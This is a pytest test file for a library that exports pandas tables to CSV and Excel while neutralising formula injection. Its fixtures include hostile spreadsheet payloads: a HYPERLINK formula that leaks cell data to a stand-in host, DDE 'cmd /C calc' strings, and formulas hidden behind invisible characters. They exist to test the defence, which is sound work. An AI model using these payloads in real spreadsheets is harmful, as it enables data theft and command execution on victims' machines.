"""Safe exports: hostile text arrives neutralised, everything else round-trips, mistakes get clear errors."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from crmlab.export import is_dangerous, neutralise, to_safe_csv, to_safe_excel

HOSTILE = {
    '=HYPERLINK("http://evil.example/?leak="&A2, "Click for your prize")':
        '\'=HYPERLINK("http://evil.example/?leak="&A2, "Click for your prize")',
    "@SUM(A1)": "'@SUM(A1)",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "  =1+1": "'  =1+1",
}
SAFE_TEXT = ["Sara Ahmadi", "سارا احمدی", "Nima Home, Office & Co", 'He said "hi"', "+989121234567", "-5", "a=b", ""]


def _frame() -> pd.DataFrame:
    names = list(HOSTILE) + SAFE_TEXT
    n = len(names)
    return pd.DataFrame({
        "name": names,
        "balance": np.linspace(-50.25, 40.5, n),
        "orders": np.arange(-3, n - 3, dtype="int64"),
        "vip": [i % 2 == 0 for i in range(n)],
    }, index=pd.Index(np.arange(101, 101 + n), name="customer_id"))


def _expected_names() -> list[str]:
    return list(HOSTILE.values()) + SAFE_TEXT


@pytest.mark.parametrize(("text", "dangerous"), [
    ("=1+1", True), ("+1+cmd", True), ("-1+cmd", True), ("@A1", True), ("\tx", True), ("\rx", True), ("\nx", True),
    ("   @A1", True), ("-5", False), ("+98912", False), ("1.5e3", False), ("-.5", False), ("Sara", False),
    ("", False), ("a=b", False), ("   ", False),
])
def test_what_is_dangerous(text, dangerous):
    assert is_dangerous(text) is dangerous


def test_numeric_text_can_be_quoted_too():
    assert is_dangerous("-5", keep_numeric_text=False) and is_dangerous("+98912", keep_numeric_text=False)
    out = neutralise(pd.DataFrame({"phone": ["+98912", "0912"]}), keep_numeric_text=False)
    assert out["phone"].tolist() == ["'+98912", "0912"]


def test_neutralise_quotes_text_only_and_leaves_the_input_alone():
    df = _frame()
    before = df.copy()
    out = neutralise(df)
    pd.testing.assert_frame_equal(df, before)
    assert out.columns.tolist() == ["customer_id", "name", "balance", "orders", "vip"]
    assert out["name"].tolist() == _expected_names()
    for column in ["customer_id", "balance", "orders", "vip"]:
        np.testing.assert_array_equal(out[column].to_numpy(), df.reset_index()[column].to_numpy())
        assert out[column].dtype == df.reset_index()[column].dtype


def test_neutralise_reaches_every_kind_of_text_column_and_header():
    df = pd.DataFrame({
        "=title": ["ok", "ok"],
        "segment": pd.Categorical(["=evil()", "Loyal"]),
        "mixed": pd.Series(["@x", 7], dtype=object),
        "note": pd.array(["+bad()", None], dtype="string"),
    })
    out = neutralise(df)
    assert out.columns.tolist() == ["'=title", "segment", "mixed", "note"]
    assert out["segment"].tolist() == ["'=evil()", "Loyal"]
    assert out["mixed"].tolist() == ["'@x", 7]  # a number in a text column stays a number
    assert out["note"].iloc[0] == "'+bad()" and pd.isna(out["note"].iloc[1])
    unnamed = neutralise(pd.DataFrame({"a": [1]}, index=[5]))
    assert unnamed.columns.tolist() == ["a"] and unnamed.index.tolist() == [0]


def test_csv_read_back_with_the_csv_module(tmp_path):
    df = _frame()
    path = to_safe_csv(df, tmp_path / "targets.csv")
    assert path == tmp_path / "targets.csv"
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["customer_id", "name", "balance", "orders", "vip"]
    assert [r[1] for r in rows[1:]] == _expected_names()
    assert [int(r[3]) for r in rows[1:]] == df["orders"].tolist()
    assert rows[1][2] == "-50.25" and rows[1][3] == "-3"  # negative numbers stay numbers, unquoted
    raw = path.read_text(encoding="utf-8-sig").splitlines()
    assert raw[1].startswith('101,"\'=HYPERLINK(') and ",-50.25,-3,True" in raw[1]


def test_csv_round_trips_with_pandas(tmp_path):
    df = _frame()
    back = pd.read_csv(to_safe_csv(df, tmp_path / "t.csv"), encoding="utf-8-sig", keep_default_na=False)
    expected = df.reset_index().assign(name=_expected_names())
    pd.testing.assert_frame_equal(back, expected, check_dtype=False)


def test_csv_of_course_dates_and_gaps(tmp_path):
    df = pd.DataFrame({"when": pd.to_datetime(["2025-03-20 21:10"]).tz_localize("UTC"), "gap": [np.nan],
                       "who": [None]})  # fmt: skip
    with open(to_safe_csv(df, tmp_path / "d.csv"), encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1] == ["2025-03-20 21:10:00+00:00", "", ""]


def test_excel_read_back_with_openpyxl(tmp_path):
    df = _frame()
    df = df[~df["name"].str.contains("\r")]  # an Excel file cannot hold a carriage return: see below
    path = to_safe_excel(df, tmp_path / "targets.xlsx", sheet_name="At risk")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["At risk"]
    sheet = book["At risk"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("customer_id", "name", "balance", "orders", "vip")
    assert [r[1] or "" for r in rows[1:]] == [n for n in _expected_names() if "\r" not in n]
    assert [r[2] for r in rows[1:]] == pytest.approx(df["balance"].tolist())
    assert [r[3] for r in rows[1:]] == df["orders"].tolist() and rows[1][3] == -3
    assert [r[4] for r in rows[1:]] == df["vip"].tolist()
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds  # no formula anywhere
    assert sheet["B2"].data_type == "s" and sheet["C2"].data_type == "n" and sheet["C2"].value < 0


def test_excel_one_sheet_per_segment_dates_and_gaps(tmp_path):
    champions = pd.DataFrame({"name": ["=1+1"], "last": pd.to_datetime(["2025-03-20 21:10"])})
    at_risk = pd.DataFrame({"name": ["Sara"], "spend": [np.nan], "n": pd.array([None], dtype="Int64")})
    path = to_safe_excel({"Champions": champions, "At risk": at_risk}, tmp_path / "lists.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Champions", "At risk"]
    assert book["Champions"]["A2"].value == "'=1+1"
    assert book["Champions"]["B2"].value == pd.Timestamp("2025-03-20 21:10").to_pydatetime()
    assert [c.value for c in book["At risk"][2]] == ["Sara", None, None]


@pytest.mark.parametrize("writer", [to_safe_csv, to_safe_excel])
@pytest.mark.parametrize(("df", "error", "match"), [
    ([1, 2, 3], TypeError, r"`df` must be a pandas DataFrame, but a list was passed"),
    (pd.Series([1, 2]), TypeError, r"but a Series was passed.*\.to_frame\(\)"),
    (None, TypeError, r"but a NoneType was passed"),
])
def test_not_a_dataframe(tmp_path, writer, df, error, match):
    suffix = ".csv" if writer is to_safe_csv else ".xlsx"
    with pytest.raises(error, match=match):
        writer(df, tmp_path / f"x{suffix}")


@pytest.mark.parametrize(("writer", "suffix"), [(to_safe_csv, ".csv"), (to_safe_excel, ".xlsx")])
def test_bad_paths(tmp_path, writer, suffix):
    df = pd.DataFrame({"a": [1]})
    with pytest.raises(FileNotFoundError, match=r"folder of `path` does not exist: .*no_such_folder"):
        writer(df, tmp_path / "no_such_folder" / f"x{suffix}")
    folder = tmp_path / f"folder{suffix}"
    folder.mkdir()
    with pytest.raises(IsADirectoryError, match="`path` is a folder, not a file"):
        writer(df, folder)
    with pytest.raises(ValueError, match=rf"`path` must end in one of \['\{suffix}'\], but '.*x.txt' was passed"):
        writer(df, tmp_path / "x.txt")
    with pytest.raises(TypeError, match=r"`path` must be a file name \(str or pathlib.Path\), but a int"):
        writer(df, 42)
    assert writer(df, str(tmp_path / f"ok{suffix}")) == Path(tmp_path / f"ok{suffix}")


@pytest.mark.parametrize(("sheets", "match"), [
    ({}, "empty mapping"),
    ({"a/b": pd.DataFrame({"a": [1]})}, r"sheet names must have 1 to 31 characters.*'a/b'"),
    ({"x" * 32: pd.DataFrame({"a": [1]})}, "1 to 31 characters"),
])
def test_bad_sheets(tmp_path, sheets, match):
    with pytest.raises(ValueError, match=match):
        to_safe_excel(sheets, tmp_path / "x.xlsx")
    with pytest.raises(TypeError, match=r"`df\['s'\]` must be a pandas DataFrame"):
        to_safe_excel({"s": [1]}, tmp_path / "x.xlsx")


# ---------------------------------------------------------------- hidden formulas, exact results, clear refusals

@pytest.mark.parametrize(("text", "dangerous"), [
    ("\x1b=1+1", True), ("\x07@A1", True), ("\x7f+cmd", True), ("\u200b=1+1", True), ("\ufeff-1+cmd", True),
    ("\u00a0=1", True), ("\u202e=1", True), ("\x1b", False), ("\x1bSara", False),
    ("+۹۸۹۱۲", True), ("-٣", True), ("=٣", True), ("+98912", False), ("\u200b+98912", False),
])  # fmt: skip
def test_what_hides_a_formula(text, dangerous):
    """Control and invisible characters do not hide a formula; only ASCII digits make a plain number."""
    assert is_dangerous(text) is dangerous


def test_control_character_then_formula_is_quoted_and_kept_whole_in_csv(tmp_path):
    df = pd.DataFrame({"name": ["\x1b=1+1", "\x1b", "+۹۸۹۱۲", "\u200b@SUM(A1)"]})
    assert neutralise(df)["name"].tolist() == ["'\x1b=1+1", "\x1b", "'+۹۸۹۱۲", "'\u200b@SUM(A1)"]
    with open(to_safe_csv(df, tmp_path / "c.csv"), encoding="utf-8-sig", newline="") as f:
        assert [r[0] for r in csv.reader(f)] == ["name", "'\x1b=1+1", "\x1b", "'+۹۸۹۱۲", "'\u200b@SUM(A1)"]


def _refused_excel(tmp_path, df, **kwargs) -> str:
    target = tmp_path / "refused.xlsx"
    target.write_bytes(b"the file that was there")
    with pytest.raises(ValueError) as caught:
        to_safe_excel(df, target, **kwargs)
    assert target.read_bytes() == b"the file that was there"  # nothing written, nothing lost
    lines = str(caught.value).splitlines()
    assert lines[0] == "Excel cannot hold these values exactly, so nothing was written:"
    return "\n".join(lines[1:])


CONTROL_FIX = ("Remove them first, e.g. df['name'] = df['name'].str.replace(r'\\r\\n?', '\\n', regex=True)"
               ".str.replace(r'[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f]', '', regex=True), or write a CSV file.")


def test_excel_refuses_control_characters_instead_of_dropping_them(tmp_path):
    df = pd.DataFrame({"name": ["ok", "\x1b=1+1", "Sara\x00", "a\r\nb", "fine"]})
    assert _refused_excel(tmp_path, df) == (
        "- Sheet 'data', column 'name': control characters or carriage returns (an Excel file cannot hold them) "
        f"in rows 1, 2, 3 (counting from 0). {CONTROL_FIX}")
    cleaned = df.assign(name=df["name"].str.replace(r"\r\n?", "\n", regex=True)
                        .str.replace(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", regex=True))  # the fix, as given
    sheet = openpyxl.load_workbook(to_safe_excel(cleaned, tmp_path / "ok.xlsx"))["data"]
    assert [r[0] for r in sheet.iter_rows(values_only=True)] == ["name", "ok", "'=1+1", "Sara", "a\nb", "fine"]


class _Evil:
    def __str__(self):
        return '=HYPERLINK("http://evil.example")'


@pytest.mark.parametrize(("values", "message"), [
    ([_Evil(), "x"], "- Column 'c': _Evil values (a spreadsheet cell holds one value) in row 0 (counting from 0). "
                     "Convert the column to text first: df['c'] = df['c'].astype(str)."),
    ([[1, 2], "x", ("a",)], "- Column 'c': list and tuple values (a spreadsheet cell holds one value) in rows 0, 2 "
                            "(counting from 0). Join them into text first, e.g. df['c'] = df['c'].str.join(', ')."),
    ([{"a": 1}, b"=1", {1}, 1j], "- Column 'c': bytes and complex and dict and set values (a spreadsheet cell holds "
                                 "one value) in 4 rows, e.g. rows 0, 1, 2 (counting from 0). Convert the column to "
                                 "text first: df['c'] = df['c'].astype(str)."),
])  # fmt: skip
@pytest.mark.parametrize("writer", [to_safe_csv, to_safe_excel])
def test_objects_that_are_not_plain_values_are_refused(tmp_path, writer, values, message):
    target = tmp_path / ("x.csv" if writer is to_safe_csv else "x.xlsx")
    with pytest.raises(TypeError) as caught:
        writer(pd.DataFrame({"c": pd.Series(values, dtype=object)}), target)
    assert str(caught.value) == f"Some cells cannot be written to a file as they are:\n{message}"
    assert not target.exists()


def test_the_suggested_fix_for_objects_neutralises_them(tmp_path):
    df = pd.DataFrame({"c": pd.Series([_Evil(), "x"], dtype=object)})
    df["c"] = df["c"].astype(str)
    with open(to_safe_csv(df, tmp_path / "x.csv"), encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f)) == [["c"], ['\'=HYPERLINK("http://evil.example")'], ["x"]]


def test_periods_intervals_decimals_and_times_are_written_exactly(tmp_path):
    df = pd.DataFrame({
        "month": pd.period_range("2024-01", periods=2, freq="M"),
        "band": pd.cut([1, 7], bins=[0, 5, 10]),
        "mixed": pd.Series([Decimal("1.25"), dt.date(2024, 1, 2)], dtype=object),
        "wait": pd.to_timedelta(["1 days 00:00:05", "2 hours"]),
    })
    sheet = openpyxl.load_workbook(to_safe_excel(df, tmp_path / "x.xlsx"))["data"]
    assert list(sheet.iter_rows(values_only=True)) == [
        ("month", "band", "mixed", "wait"),
        ("2024-01", "(0, 5]", 1.25, dt.timedelta(days=1, seconds=5)),
        ("2024-02", "(5, 10]", dt.datetime(2024, 1, 2), dt.timedelta(hours=2)),
    ]
    with open(to_safe_csv(df, tmp_path / "x.csv"), encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f))[1:] == [["2024-01", "(0, 5]", "1.25", "1 days 00:00:05"],
                                           ["2024-02", "(5, 10]", "2024-01-02", "0 days 02:00:00"]]  # fmt: skip


@pytest.mark.parametrize(("df", "message"), [
    (pd.DataFrame([[1, 2]], columns=["a", "a"]),
     "`df` has more than one column named 'a' (as text), so the file could not tell them apart: ['a']. "
     "Rename them first, e.g. df.columns = [...] with distinct names."),
    (pd.DataFrame([[1, 2]], columns=[1, "1"]),
     "`df` has more than one column named '1' (as text), so the file could not tell them apart: ['1']. "
     "Rename them first, e.g. df.columns = [...] with distinct names."),
    (pd.DataFrame({"customer_id": [7]}, index=pd.Index([7], name="customer_id")),
     "`df` has an index named 'customer_id' and a column with the same name, so the file would hold two columns "
     "'customer_id'. Keep one: df.reset_index(drop=True) drops the index, df.drop(columns='customer_id') drops "
     "the column."),
    (pd.DataFrame([[1, 2]], columns=pd.MultiIndex.from_tuples([("a", "x"), ("a", "y")])),
     "`df` has two levels of column names, which a file row cannot hold. Flatten them first, e.g. "
     "df.columns = ['_'.join(map(str, c)) for c in df.columns]."),
])  # fmt: skip
@pytest.mark.parametrize("writer", [to_safe_csv, to_safe_excel])
def test_column_names_that_a_file_cannot_tell_apart(tmp_path, writer, df, message):
    target = tmp_path / ("x.csv" if writer is to_safe_csv else "x.xlsx")
    with pytest.raises(ValueError) as caught:
        writer(df, target)
    assert str(caught.value) == message and not target.exists()


def test_header_objects_are_neutralised_too():
    out = neutralise(pd.DataFrame([[1, 2]], columns=[_Evil(), -1]))
    assert out.columns.tolist() == ['\'=HYPERLINK("http://evil.example")', -1]


@pytest.mark.parametrize(("sheets", "message"), [
    ({1: pd.DataFrame({"a": [1]}), "1": pd.DataFrame({"a": [2]})},
     "Two tables would get the same sheet name (Excel ignores case): keys 1 and '1' both give '1'. Rename one, "
     "e.g. {'1 (2)': ...}."),
    ({"Data": pd.DataFrame({"a": [1]}), "data": pd.DataFrame({"a": [2]})},
     "Two tables would get the same sheet name (Excel ignores case): keys 'Data' and 'data' both give 'data'. "
     "Rename one, e.g. {'data (2)': ...}."),
    ({"history": pd.DataFrame({"a": [1]})}, "Excel keeps the sheet name 'History' for itself; choose another name."),
    ({"'quoted'": pd.DataFrame({"a": [1]})},
     "Excel sheet names must have 1 to 31 characters, none of [ ] : * ? / \\, and no ' at either end, but "
     "\"'quoted'\" was passed."),
])  # fmt: skip
def test_sheet_names_excel_would_merge_or_refuse(tmp_path, sheets, message):
    with pytest.raises(ValueError) as caught:
        to_safe_excel(sheets, tmp_path / "x.xlsx")
    assert str(caught.value) == message and not (tmp_path / "x.xlsx").exists()


def test_distinct_sheet_keys_of_any_type_round_trip(tmp_path):
    book = openpyxl.load_workbook(to_safe_excel({1: pd.DataFrame({"a": [1]}), "2": pd.DataFrame({"a": [2]})},
                                                tmp_path / "x.xlsx"))  # fmt: skip
    assert book.sheetnames == ["1", "2"] and book["2"]["A2"].value == 2


INF_FIX = ("Excel has no infinity: replace it, e.g. df['{c}'] = df['{c}'].replace([np.inf, -np.inf], np.nan) for "
           "empty cells, or write a CSV file (it keeps inf).")  # fmt: skip


def test_infinity_is_refused_in_excel_and_kept_in_csv(tmp_path):
    df = pd.DataFrame({"ratio": [1.5, np.inf, np.nan, -np.inf], "o": pd.Series([1, "x", float("-inf"), None],
                                                                               dtype=object)})  # fmt: skip
    assert _refused_excel(tmp_path, df) == (
        "- Sheet 'data', column 'ratio': infinite numbers (inf) in rows 1, 3 (counting from 0). "
        + INF_FIX.format(c="ratio") + "\n"
        "- Sheet 'data', column 'o': infinite numbers (inf) in row 2 (counting from 0). " + INF_FIX.format(c="o"))
    back = pd.read_csv(to_safe_csv(df[["ratio"]], tmp_path / "x.csv"), encoding="utf-8-sig")
    assert back["ratio"].tolist()[:2] == [1.5, np.inf] and np.isnan(back["ratio"][2]) and back["ratio"][3] == -np.inf
    fixed = df[["ratio"]].replace([np.inf, -np.inf], np.nan).assign(id=[1, 2, 3, 4])  # the fix, as given
    sheet = openpyxl.load_workbook(to_safe_excel(fixed, tmp_path / "ok.xlsx"))["data"]
    assert list(sheet.iter_rows(values_only=True)) == [("ratio", "id"), (1.5, 1), (None, 2), (None, 3), (None, 4)]


def test_text_excel_would_cut_is_refused_and_the_longest_it_keeps_round_trips(tmp_path):
    longest, longer = "a" * 32_767, "b" * 32_768
    formula = "=" + "x" * 32_766  # 32,767 characters, 32,768 once quoted
    assert _refused_excel(tmp_path, pd.DataFrame({"note": [longest, longer, formula]})) == (
        "- Sheet 'data', column 'note': text longer than 32,767 characters (Excel would cut it) in rows 1, 2 "
        "(counting from 0). Write a CSV file instead (to_safe_csv keeps every character), or shorten the text.")
    sheet = openpyxl.load_workbook(to_safe_excel(pd.DataFrame({"note": [longest]}), tmp_path / "ok.xlsx"))["data"]
    assert sheet["A2"].value == longest
    with open(to_safe_csv(pd.DataFrame({"note": [longer]}), tmp_path / "x.csv"), encoding="utf-8-sig") as f:
        assert list(csv.reader(f))[1] == [longer]


def test_time_zones_are_refused_in_excel_with_both_fixes_and_kept_in_csv(tmp_path):
    when = pd.to_datetime(["2025-03-20 21:10"]).tz_localize("UTC").tz_convert("Asia/Tehran")
    df = pd.DataFrame({"last": when, "o": pd.Series([pd.Timestamp("2025-01-01", tz="UTC")], dtype=object)})
    assert _refused_excel(tmp_path, df).splitlines() == [
        "- Sheet 'data', column 'last': dates carry the time zone Asia/Tehran in row 0 (counting from 0). Excel has "
        "no time zones: choose the clock first, e.g. df['last'] = df['last'].dt.tz_convert('Asia/Tehran')"
        ".dt.tz_localize(None) for local time, or .dt.tz_convert('UTC').dt.tz_localize(None).",
        "- Sheet 'data', column 'o': dates carry a time zone in row 0 (counting from 0). Excel has no time zones: "
        "choose the clock first, e.g. df['o'] = df['o'].dt.tz_convert('Asia/Tehran').dt.tz_localize(None) for "
        "local time, or .dt.tz_convert('UTC').dt.tz_localize(None).",
    ]
    local = df[["last"]].assign(last=df["last"].dt.tz_convert("Asia/Tehran").dt.tz_localize(None))
    sheet = openpyxl.load_workbook(to_safe_excel(local, tmp_path / "ok.xlsx"))["data"]
    assert sheet["A2"].value == dt.datetime(2025, 3, 21, 0, 40)  # Tehran is 3:30 ahead of UTC
    with open(to_safe_csv(df[["last"]], tmp_path / "x.csv"), encoding="utf-8-sig") as f:
        assert list(csv.reader(f))[1] == ["2025-03-21 00:40:00+03:30"]


def test_whole_numbers_excel_would_round_are_refused(tmp_path):
    df = pd.DataFrame({"card": [10**15 - 1, 10**15, -(10**16)], "n": pd.array([None, 5, 10**15], dtype="Int64")})
    assert _refused_excel(tmp_path, df).splitlines() == [
        "- Sheet 'data', column 'card': whole numbers of 16 or more digits in rows 1, 2 (counting from 0). Excel "
        "keeps 15 significant digits and would change the last ones: write them as text, e.g. df['card'] = "
        "df['card'].astype(str).",
        "- Sheet 'data', column 'n': whole numbers of 16 or more digits in row 2 (counting from 0). Excel keeps 15 "
        "significant digits and would change the last ones: write them as text, e.g. df['n'] = df['n'].astype(str).",
    ]
    ok = pd.DataFrame({"card": [10**15 - 1], "text": [str(10**15 + 1)]})
    sheet = openpyxl.load_workbook(to_safe_excel(ok, tmp_path / "ok.xlsx"))["data"]
    assert (sheet["A2"].value, sheet["B2"].value) == (10**15 - 1, "1000000000000001")
